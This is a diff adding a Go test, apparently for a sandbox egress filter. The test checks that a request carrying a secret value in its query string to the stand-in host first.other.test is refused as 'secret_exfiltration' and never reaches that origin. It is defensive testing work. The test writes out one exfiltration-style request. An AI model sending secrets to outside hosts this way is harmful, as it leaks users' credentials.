@@ -95,6 +95,16 @@ func TestExfiltration(t *testing.T) {
 	t.Run("bodies", func(t *testing.T) { exfiltrationInBodies(t, s) })
 }
 
+// TestExfiltrationBeforeUse: a value on this machine is known before any
+// request has used it, as when it also lies in the sandbox's own folder.
+func TestExfiltrationBeforeUse(t *testing.T) {
+	s := start(t, strings.Replace(outgoingPolicy, "TRIPWIRE", "alert", 1), real)
+	refused(t, s.get(t, "https://first.other.test/?x="+url.QueryEscape(real)), "secret_exfiltration")
+	if !origin("first.other.test").Silent() {
+		t.Error("the origin saw it")
+	}
+}
+
 // exfiltrationInBodies: no body with a value arrives whole, whatever its type
 // and however it is cut.
 func exfiltrationInBodies(t *testing.T, s *inside) {
